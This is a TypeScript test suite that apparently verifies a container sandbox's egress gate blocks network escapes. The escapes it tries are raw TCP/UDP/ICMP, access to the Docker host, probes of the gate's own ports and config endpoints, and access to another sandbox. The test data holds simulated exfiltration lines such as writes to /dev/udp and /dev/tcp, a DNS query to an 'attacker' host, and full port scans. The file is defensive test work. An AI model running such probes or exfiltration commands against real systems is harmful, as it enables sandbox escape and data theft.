import { afterAll, beforeAll, expect, test } from "bun:test";
import { docker, dockerOk } from "../../helpers/docker.ts";
import {
  type Attacker,
  type Sniffer,
  type World,
  SETUP_TIMEOUT_MS,
  describeEscape,
  TEST_TIMEOUT_MS,
  dnsQuery,
  ensureToolsImage,
  gateResolves,
  hostIpv4s,
  networkGateways,
  probe,
  readAuditFile,
  auditFile,
  bridgeDevice,
  bridgeIpv4,
  runInNetns,
  startSniffer,
  startWorld,
  tearDown,
  upAttacker,
} from "../../helpers/escape-world.ts";
import { containerIp } from "../../helpers/world.ts";

/**
 * Escapes below HTTP: packets that ignore the proxy (TCP, UDP, ICMP), the
 * Docker host, the gate's own network surface, and another running bottle.
 * The world container logs every connection and datagram it gets, and a
 * tcpdump in its network namespace shows any packet that arrives from
 * anywhere but the gate, so "nothing got through" is observed on the wire.
 */

const NOT_OPEN = /^(timeout|error:\w+)$/;

/** The IPv6 link-local address of a docker network's bridge on this machine. */
function bridgeLinkLocal(network: string): string | undefined {
  const out = Bun.spawnSync(["ip", "-6", "-o", "addr", "show", "dev", bridgeDevice(network), "scope", "link"], { stdout: "pipe", stderr: "pipe" });
  return /inet6 (fe80::[0-9a-f:]+)\//.exec(out.stdout.toString())?.[1];
}

/**
 * Fetches `url` from inside the gate container (as the gate would connect),
 * for positive controls. Asynchronous: the host service runs in this process.
 */
async function fetchFromGate(attacker: Attacker, url: string): Promise<string> {
  const proc = Bun.spawn(
    ["docker", "exec", `${attacker.name}-gate`, "node", "-e", `fetch(${JSON.stringify(url)}, { signal: AbortSignal.timeout(3000) }).then((r) => r.text()).then(console.log, (e) => console.log("ERR " + e.message))`],
    { stdout: "pipe", stderr: "pipe" },
  );
  const [stdout] = await Promise.all([new Response(proc.stdout).text(), proc.exited]);
  return stdout;
}

describeEscape(["docker"], "these attacks target the docker backend's own network (the internal bridge, its host side, other bottles' networks)", "escape below HTTP: packets, the Docker host, the gate, other bottles", () => {
  let attacker: Attacker;
  let victim: Attacker;
  let world: World;
  let tools = "";
  let hostServer: ReturnType<typeof Bun.serve> | undefined;
  let hostServer6: ReturnType<typeof Bun.serve> | undefined;
  let port = 0;
  let bottleIp = "";
  const sniffers: Sniffer[] = [];

  beforeAll(async () => {
    tools = ensureToolsImage();
    // A service on the Docker host, on all its IPv4 addresses, and one on IPv6.
    hostServer = Bun.serve({ hostname: "0.0.0.0", port: 0, fetch: () => new Response("host service\n") });
    port = hostServer.port ?? 0;
    hostServer6 = Bun.serve({ hostname: "::", port: 0, fetch: () => new Response("host service\n") });
    attacker = await upAttacker({
      prefix: "esc-net",
      manifest: [
        "egress:",
        `  allow: [allowed.test, hostgw.test:${port}, dockerhost.test:${port}, hostlan.test:${port}, victimgate.test:3128]`,
        // Opted in on purpose: the Docker host and other bottles must stay unreachable even then.
        "  allow_private: [allowed.test, hostgw.test, dockerhost.test, hostlan.test, victimgate.test]",
      ],
    });
    victim = await upAttacker({ prefix: "esc-victim", manifest: ["egress:", "  allow: [allowed.test]"], dockerfile: null, sandbox: attacker.sandbox });
    world = startWorld(attacker, ["allowed.test"]);
    bottleIp = containerIp(attacker.name, `${attacker.name}-internal`);
  }, SETUP_TIMEOUT_MS);

  afterAll(async () => {
    for (const sniffer of sniffers) dockerOk("rm", "-f", sniffer.container);
    world?.remove();
    hostServer?.stop(true);
    hostServer6?.stop(true);
    if (victim) await tearDown(victim.sandbox, [victim.name], [victim.agent]);
    if (attacker) await tearDown(attacker.sandbox, [attacker.name], [attacker.agent]);
  }, SETUP_TIMEOUT_MS);

  /** Captures, in the world's namespace, every IPv4 packet that does not come from or go to the gate. */
  function sniffWorld(): Sniffer {
    const sniffer = startSniffer(tools, world.container, attacker.label, ["ip", "and", "not", "host", attacker.gateEgressIp]);
    sniffers.push(sniffer);
    return sniffer;
  }
  const packetLines = (capture: string) => capture.split("\n").filter((line) => /^\d\d:\d\d:\d\d\.\d+ /.test(line));

  test(
    "4. direct TCP, UDP and ICMP past the proxy reach neither the world nor the gate's egress side",
    async () => {
      const sniffer = sniffWorld();
      const targets = [world.ip, attacker.gateEgressIp];
      const results = await probe(attacker, [
        // Controls: the gate itself is on the bottle's network, and answers.
        { id: "control-tcp-3128", proto: "tcp", host: attacker.gateIp, port: 3128 },
        { id: "control-udp-53", proto: "udp", host: attacker.gateIp, port: 53, payload: dnsQuery("allowed.test") },
        ...targets.flatMap((host) => [
          ...[80, 443, 22, 8080, 3128, 53].map((p) => ({ id: `${host} tcp ${p}`, proto: "tcp" as const, host, port: p })),
          { id: `${host} udp 9999`, proto: "udp" as const, host, port: 9999 },
          { id: `${host} udp 53`, proto: "udp" as const, host, port: 53, payload: dnsQuery("exfil-udp.attacker.test") },
        ]),
      ]);
      expect(results["control-tcp-3128"]).toBe("open");
      expect(results["control-udp-53"]).toBe("open");
      for (const [id, result] of Object.entries(results)) if (!id.startsWith("control")) expect({ id, result }).toEqual({ id, result: expect.stringMatching(NOT_OPEN) });

      const out = await attacker.sh(
        `ping -c 1 -W 2 gate >/dev/null && echo control-ping-ok; ` +
          targets.map((ip) => `ping -c 2 -i 0.2 -W 2 ${ip} >/dev/null 2>&1 && echo LEAK-ping-${ip}`).join(" & ") +
          `; curl -sS --noproxy '*' --connect-timeout 2 --max-time 4 http://${world.ip}/direct && echo LEAK-curl; wait; exit 0`,
      );
      expect(out.stdout).toContain("control-ping-ok");
      expect(out.stdout).not.toContain("LEAK");

      const capture = sniffer.stop();
      expect(capture).toContain("listening on");
      expect(packetLines(capture)).toEqual([]);
      expect(world.events()).toEqual([]);
    },
    TEST_TIMEOUT_MS,
  );

  test(
    "7. the Docker host: direct connections to every gateway and host address fail; through the gate, its addresses are IP literals",
    async () => {
      const gateways = new Set<string>();
      for (const network of [`${attacker.name}-internal`, `${attacker.name}-egress`, "bridge"]) for (const ip of networkGateways(network)) gateways.add(ip);
      const targets = [...new Set([...gateways, ...hostIpv4s()])];
      expect(targets.length).toBeGreaterThan(2);
      // The service really answers on the host's addresses.
      expect(await (await fetch(`http://127.0.0.1:${port}/`)).text()).toBe("host service\n");
      const linkLocal = bridgeLinkLocal(`${attacker.name}-internal`);
      if (linkLocal) {
        // Control: the IPv6 service answers on the internal bridge's link-local address.
        const device = bridgeDevice(`${attacker.name}-internal`);
        const curl = Bun.spawn(["curl", "-sS", "-g", "--max-time", "3", `http://[${linkLocal}%25${device}]:${hostServer6!.port}/`], { stdout: "pipe", stderr: "pipe" });
        expect(await new Response(curl.stdout).text()).toBe("host service\n");
      }
      const results = await probe(attacker, [
        ...targets.map((host) => ({ id: `${host}:${port}`, proto: "tcp" as const, host, port })),
        // The internal bridge has no IPv4 address on the host, but may have an IPv6 link-local one.
        ...(linkLocal ? [{ id: `[${linkLocal}%eth0]:${hostServer6!.port}`, proto: "tcp" as const, host: `${linkLocal}%eth0`, port: hostServer6!.port }] : []),
      ]);
      for (const [id, result] of Object.entries(results)) expect({ id, result }).toEqual({ id, result: expect.stringMatching(NOT_OPEN) });

      const out = await attacker.sh(
        targets.map((ip) => `curl -sS --connect-timeout 2 --max-time 4 -D - -o /dev/null http://${ip}:${port}/ | grep -i '^X-Bottle-Egress-Rule' | tr -d '\\r'`).join("; "),
      );
      expect(out.stdout.trim().split("\n")).toEqual(targets.map(() => "X-Bottle-Egress-Rule: ip-literal"));
    },
    TEST_TIMEOUT_MS,
  );

  test(
    "7. the Docker host by an allowed, allow_private name: the egress network's gateway is refused as host-address",
    async () => {
      const gateway = networkGateways(`${attacker.name}-egress`)[0]!;
      // Control: from the gate's own namespace the host service answers at that address.
      expect(await fetchFromGate(attacker, `http://${gateway}:${port}/`)).toContain("host service");
      gateResolves(attacker, { "hostgw.test": gateway });
      const out = await attacker.sh(`curl -sS -i --connect-timeout 2 --max-time 5 http://hostgw.test:${port}/`);
      expect(out.stdout).not.toContain("host service");
      expect(out.stdout).toContain("X-Bottle-Egress-Rule: host-address");
      expect(out.stdout).toContain("The Docker host is never reachable from a bottle.");
      expect(attacker.audit()).toContainEqual(
        expect.objectContaining({ host: "hostgw.test", port, decision: "deny", rule: "host-address", detail: expect.stringContaining(gateway) }),
      );
    },
    TEST_TIMEOUT_MS,
  );

  // The gate's `host-address` rule knows every address of the Docker host the
  // launch can see (the gateways of all docker networks and the host's own
  // interfaces, lib/backends/docker.ts dockerHostAddresses) plus its own route
  // gateways (lib/gates/egress/daemon/routes.ts): none is reachable behind an allowed
  // name that is opted in to private addresses.
  test(
    "7. the Docker host by an allowed, allow_private name: its other addresses (docker0, the host's own address) are refused too",
    async () => {
      const docker0 = bridgeIpv4("bridge")!;
      expect(docker0).toMatch(/^\d+\.\d+\.\d+\.\d+$/);
      const bridgeGateways = new Set(
        docker("network", "ls", "-q")
          .split("\n")
          .filter(Boolean)
          .flatMap((id) => networkGateways(id)),
      );
      const lan = hostIpv4s().find((ip) => !bridgeGateways.has(ip)) ?? hostIpv4s()[0]!;
      // Controls: the gate's namespace reaches the host service at both addresses.
      expect(await fetchFromGate(attacker, `http://${docker0}:${port}/`)).toContain("host service");
      expect(await fetchFromGate(attacker, `http://${lan}:${port}/`)).toContain("host service");
      gateResolves(attacker, { "dockerhost.test": docker0, "hostlan.test": lan });
      const out = await attacker.sh(
        `for h in dockerhost.test hostlan.test; do echo "== $h"; curl -sS -i --connect-timeout 2 --max-time 5 http://$h:${port}/; echo; done`,
      );
      const [, viaDocker0 = "", viaLan = ""] = out.stdout.split(/^== /m);
      const responses: Array<[string, string]> = [
        [`dockerhost.test → ${docker0}`, viaDocker0],
        [`hostlan.test → ${lan}`, viaLan],
      ];
      const outcome = (response: string) =>
        response.includes("host service") ? "REACHED THE DOCKER HOST" : (/X-Bottle-Egress-Rule: (\S+)/i.exec(response)?.[1] ?? "no answer");
      expect(Object.fromEntries(responses.map(([what, response]) => [what, outcome(response)]))).toEqual(
        Object.fromEntries(responses.map(([what]) => [what, "host-address"])),
      );
    },
    TEST_TIMEOUT_MS,
  );

  test(
    "7. the gate's own surface: of all TCP ports only 3128 and 53 answer; no control or config over HTTP",
    async () => {
      const results = await probe(attacker, [
        { id: "gate", proto: "tcp", host: attacker.gateIp, from: 1, to: 65535 },
        ...[22, 67, 123, 161, 3128, 5353, 9229].map((p) => ({ id: `udp ${p}`, proto: "udp" as const, host: attacker.gateIp, port: p })),
        { id: "udp 53", proto: "udp", host: attacker.gateIp, port: 53, payload: dnsQuery("allowed.test") },
      ]);
      expect(Object.keys(results).filter((id) => results[id] === "open").sort()).toEqual(["gate:3128", "gate:53", "udp 53"]);

      const requests = [
        // Origin-form (as to a web server) on the proxy port.
        "--noproxy '*' http://gate:3128/",
        "--noproxy '*' http://gate:3128/etc/bottle/egress.json",
        "--noproxy '*' -X PUT --data allowed.test http://gate:3128/allow",
        "--noproxy '*' -X POST http://gate:3128/reload",
        // Through the proxy, at the gate itself.
        "http://gate:3128/config",
        "-X PUT --data denied.test http://gate:3128/allow",
        // (NO_PROXY lists these; the attacker overrides it.)
        "--noproxy '' http://localhost:3128/",
        "--noproxy '' http://127.0.0.1:3128/",
        `http://${attacker.gateIp}:3128/`,
        `http://${attacker.name}-gate:3128/`,
      ];
      const out = await attacker.sh(
        requests.map((args) => `curl -sS --connect-timeout 2 --max-time 4 -D - -o /dev/null ${args} | grep -i '^X-Bottle-Egress-Rule' | tr -d '\\r'`).join("; "),
      );
      expect(out.stdout.trim().split("\n")).toEqual([
        ...new Array(4).fill("X-Bottle-Egress-Rule: not-absolute-form"),
        "X-Bottle-Egress-Rule: not-allowed",
        "X-Bottle-Egress-Rule: not-allowed",
        "X-Bottle-Egress-Rule: not-allowed",
        "X-Bottle-Egress-Rule: ip-literal",
        "X-Bottle-Egress-Rule: ip-literal",
        "X-Bottle-Egress-Rule: not-allowed",
      ]);
    },
    TEST_TIMEOUT_MS,
  );

  test(
    "7. another running bottle: unreachable directly, through the gate by address or name, and by an opted-in name for its gate",
    async () => {
      const victimIp = containerIp(victim.name, `${victim.name}-internal`);
      const victimGate = containerIp(`${victim.name}-gate`, `${victim.name}-internal`);
      const victimGateEgress = containerIp(`${victim.name}-gate`, `${victim.name}-egress`);
      const results = await probe(
        attacker,
        [victimIp, victimGate, victimGateEgress].flatMap((host) => [
          ...[3128, 53, 22, 80].map((p) => ({ id: `${host} tcp ${p}`, proto: "tcp" as const, host, port: p })),
          { id: `${host} udp 53`, proto: "udp" as const, host, port: 53, payload: dnsQuery("allowed.test") },
        ]),
      );
      for (const [id, result] of Object.entries(results)) expect({ id, result }).toEqual({ id, result: expect.stringMatching(NOT_OPEN) });

      gateResolves(attacker, { "victimgate.test": victimGateEgress });
      const out = await attacker.sh(
        [
          `curl -sS --connect-timeout 2 --max-time 4 -D - -o /dev/null http://${victimIp}/ | grep -i '^X-Bottle-Egress-Rule'`,
          `curl -sS --connect-timeout 2 --max-time 4 -D - -o /dev/null http://${victim.name}/ | grep -i '^X-Bottle-Egress-Rule'`,
          `curl -sS --connect-timeout 2 --max-time 4 -D - -o /dev/null http://${victim.name}-gate:3128/ | grep -i '^X-Bottle-Egress-Rule'`,
          `getent hosts ${victim.name} ${victim.name}-gate || echo no-address`,
          // victimgate.test is allowed and opted in to private addresses: only Docker's isolation of the two egress networks stands in the way.
          "curl -sS --connect-timeout 2 --max-time 15 -D - -o /dev/null http://victimgate.test:3128/ | grep -i '^X-Bottle-Egress-Rule'",
        ].join("; "),
      );
      expect(out.stdout.replace(/\r/g, "").trim().split("\n")).toEqual([
        "X-Bottle-Egress-Rule: ip-literal",
        "X-Bottle-Egress-Rule: not-allowed",
        "X-Bottle-Egress-Rule: not-allowed",
        "no-address",
        "X-Bottle-Egress-Rule: upstream-unreachable",
      ]);
      // The victim's gate never saw a request from the attacker.
      const victimAudit = readAuditFile(auditFile(victim.sandbox, victim.name));
      expect(victimAudit.filter((line) => line.host !== "bottle-self-test.invalid")).toEqual([]);
    },
    TEST_TIMEOUT_MS,
  );

  test(
    "4. defence in depth: even with CAP_NET_ADMIN in the bottle's namespace and a default route via the gate, nothing reaches the world",
    async () => {
      // Simulates a bottle process that regained CAP_NET_ADMIN: a helper
      // container joins the bottle's network namespace and points the default
      // route at the gate, which would then have to forward the packets.
      const sniffer = sniffWorld();
      const out = runInNetns(tools, attacker.name, attacker.label, ["NET_ADMIN"], [
        "bash",
        "-c",
        `orig=$(ip route show default | head -1); ip route replace default via ${attacker.gateIp} && ip route get ${world.ip}; ` +
          `for i in 1 2 3; do echo exfil > /dev/udp/${world.ip}/9999; done; ` +
          `timeout 3 bash -c 'echo > /dev/tcp/${world.ip}/8080' && echo LEAK-tcp; ` +
          // Put the bottle's route back as it was.
          `ip route del default; [ -z "$orig" ] || ip route add $orig; exit 0`,
      ]);
      expect(out.stdout).toContain(`via ${attacker.gateIp}`);
      expect(out.stdout).not.toContain("LEAK");
      const capture = sniffer.stop();
      expect(packetLines(capture).filter((line) => line.includes(bottleIp))).toEqual([]);
      expect(world.events().filter((e) => e.ev === "udp" || e.ev === "tcp")).toEqual([]);
    },
    TEST_TIMEOUT_MS,
  );
});
